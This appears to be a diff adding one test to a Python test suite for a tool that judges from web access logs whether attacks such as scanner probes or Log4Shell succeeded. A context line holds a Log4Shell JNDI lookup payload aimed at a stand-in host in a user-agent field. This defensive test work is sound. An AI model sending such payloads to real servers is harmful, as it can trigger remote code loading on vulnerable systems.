@@ -257,6 +257,11 @@ def test_a_redirect_from_where_nobody_is_redirected_worked() -> None:
     assert of_attacks([*rows[:-1], *often, rows[-1]]) == ["unknown"]
 
 
+def test_a_large_page_for_a_scanner_by_name_alone_proves_nothing() -> None:
+    rows = [*visits("/", [8000] * 8), attack("/", 200, 64_000, Attack.SCANNER, user_agent="Nikto")]
+    assert of_attacks(rows) == ["unknown"]
+
+
 def test_what_no_answer_shows_is_unknown() -> None:
     header = attack("/", 200, 1000, Attack.LOG4SHELL, user_agent="${jndi:ldap://a.example/x}")
     assert of_attacks([*visits("/", [1000] * 8), header]) == ["unknown"]
